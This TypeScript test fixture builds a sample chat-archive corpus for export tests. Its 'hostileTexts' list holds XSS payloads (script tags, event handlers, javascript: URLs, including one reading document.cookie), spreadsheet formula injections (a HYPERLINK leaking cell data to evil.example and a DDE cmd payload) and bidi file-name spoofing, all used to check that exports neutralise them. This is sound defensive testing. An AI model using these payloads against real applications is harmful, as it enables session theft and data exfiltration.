/**
 * A small fixed corpus for the export tests: every element type, placeholders, a server note,
 * system messages with object bodies, malformed records, and hostile texts.
 */
import type { ArchivedMessage } from '../../../src-main/shared/archive-record'
import type { ExportMeta } from '../../../src-main/export/types'

const t0 = 1714989600 // 2024-05-06T10:00:00Z

function msg(seq: number, from: string, body: unknown, extra: Record<string, unknown> = {}, group = '@TGS#1DEMO'): ArchivedMessage {
  return {
    GroupId: group,
    From_Account: from,
    IsPlaceMsg: 0,
    MsgBody: body,
    MsgPriority: 2,
    MsgRandom: 1000 + seq,
    MsgSeq: seq,
    MsgTimeStamp: t0 + seq * 3600 * 7,
    ...extra
  } as ArchivedMessage
}
const text = (Text: string) => ({ MsgType: 'TIMTextElem', MsgContent: { Text } })

export const hostileTexts = [
  '<script>window.__pwned=1;alert(1)</script>',
  '<img src=x onerror="window.__pwned=2">',
  'Docs: [click here](javascript:window.__pwned=3) or <a href="javascript:alert(1)">this</a> javascript:alert(document.cookie)',
  '"><svg/onload=window.__pwned=4>&lt;b&gt;escaped&lt;/b&gt; &amp;',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")',
  "+cmd|' /C calc'!A0",
  '-1+2',
  '@SUM(A1:A10)',
  '\t=1+1\r\n=2+2',
  ' =1+1',
  'invoice_\u202Efdp.exe and \u2067isolate\u2069',
  'line1\nline2 \u0000 nul \u001b[31mred\u001b[0m \u0007 bell',
  '![pic](https://evil.example/x.png) <b>bold</b> www.example.com ``code`` ~~~',
  'See https://docs.example.com/notes?a=1&b=<2> and http://ok.example/path.'
]

export const corpus: ArchivedMessage[] = [
  msg(
    1,
    '@TIM#SYSTEM',
    { MsgType: 'TIMGroupTipElem', MsgContent: { OpType: 'Create', Operator_Account: 'administrator', GroupName: 'Demo <team>' } },
    { IsSystemMsg: 1 }
  ),
  msg(2, 'alice', [text('Good morning everyone! 早上好 🎉')]),
  msg(3, 'bob', [text('Lunch?'), { MsgType: 'TIMFaceElem', MsgContent: { Index: 3, Data: '[smile]' } }]),
  msg(4, 'chen_wei', [{ MsgType: 'TIMLocationElem', MsgContent: { Desc: '深圳市南山区', Latitude: 22.54, Longitude: 113.93 } }]),
  msg(5, 'alice', [{ MsgType: 'TIMCustomElem', MsgContent: { Data: '{"type":"vote","id":42}', Desc: 'Vote: lunch', Ext: '{"v":1}' } }]),
  msg(6, 'bob', [
    {
      MsgType: 'TIMImageElem',
      MsgContent: {
        UUID: 'abc.jpg',
        ImageFormat: 1,
        ImageInfoArray: [
          { Type: 1, Size: 123456, Width: 640, Height: 480, URL: 'https://cos.example.com/img/abc_1.jpg' },
          { Type: 3, Size: 1000, Width: 198, Height: 148, URL: 'javascript:alert(1)' }
        ]
      }
    }
  ]),
  msg(7, 'fatima', [{ MsgType: 'TIMSoundElem', MsgContent: { Url: 'https://cos.example.com/s.mp3', UUID: 's1', Size: 9000, Second: 12 } }]),
  msg(8, 'yossi', [
    {
      MsgType: 'TIMVideoFileElem',
      MsgContent: {
        VideoUrl: 'javascript:alert(2)',
        VideoUUID: 'v1',
        VideoSize: 1,
        VideoSecond: 30,
        VideoFormat: 'mp4',
        ThumbUUID: 't',
        ThumbSize: 1,
        ThumbWidth: 1,
        ThumbHeight: 1,
        ThumbFormat: 'JPG'
      }
    }
  ]),
  msg(9, 'li_lei', [
    { MsgType: 'TIMFileElem', MsgContent: { Url: 'https://cos.example.com/f', UUID: 'f1', FileSize: 2048000, FileName: '季度报告 <Q3>.xlsx' } }
  ]),
  msg(10, 'alice', [
    {
      MsgType: 'TIMRelayElem',
      MsgContent: {
        Title: 'Chat history',
        MsgNum: 2,
        CompatibleText: '[Chat history]',
        AbstractList: ['alice: hi', 'bob: <b>hey</b>'],
        MsgList: [
          { From_Account: 'alice', MsgSeq: 1, MsgRandom: 1, MsgTimeStamp: t0, MsgBody: [text('hi')] },
          { From_Account: 'bob', MsgSeq: 2, MsgRandom: 2, MsgTimeStamp: t0 + 60, MsgBody: [text('<b>hey</b>')] }
        ]
      }
    }
  ]),
  msg(11, 'bob', [
    {
      MsgType: 'TIMRelayElem',
      MsgContent: { Title: 'Big history', MsgNum: 240, CompatibleText: '[Chat history]', AbstractList: ['a: x'], JsonMsgKey: 'relay_1' }
    }
  ]),
  msg(12, 'bob', [], { IsPlaceMsg: 1 }),
  msg(13, 'chen_wei', [], { IsPlaceMsg: 2 }),
  msg(14, 'alice', [text('I said something I regret')], { _archive: { server: { IsPlaceMsg: 2, seenAt: '2024-05-10T00:00:00.000Z' } } }),
  msg(15, '@TIM#SYSTEM', { OpType: 'Quit', Operator_Account: 'li_lei', Reason: 'left' }, { IsSystemMsg: 1 }),
  msg(16, 'mallory', [{ MsgType: 'TIMBrandNewElem', MsgContent: { Stuff: 1 } }, 'not an element', { MsgType: 'TIMTextElem', MsgContent: { Text: 42 } }]),
  { GroupId: '@TGS#1DEMO', MsgSeq: 17 } as unknown as ArchivedMessage,
  ...hostileTexts.map((s, i) => msg(18 + i, i % 2 ? '<b>mallory</b>' : 'eve"onmouseover="x', [text(s)])),
  msg(1, 'zed', [text('the other group')], {}, '@TGS#2OTHER'),
  msg(2, 'zed', [text('second month')], { MsgTimeStamp: t0 + 40 * 86400 }, '@TGS#2OTHER')
]

export const meta: ExportMeta = {
  app: 'tim-archive',
  version: '0.0.0-test',
  exportedAt: '2026-01-01T00:00:00.000Z',
  query: '',
  groups: [{ groupId: '@TGS#1DEMO', name: 'Demo <team> 🚀' }, { groupId: '@TGS#2OTHER' }],
  timeZone: 'UTC'
}
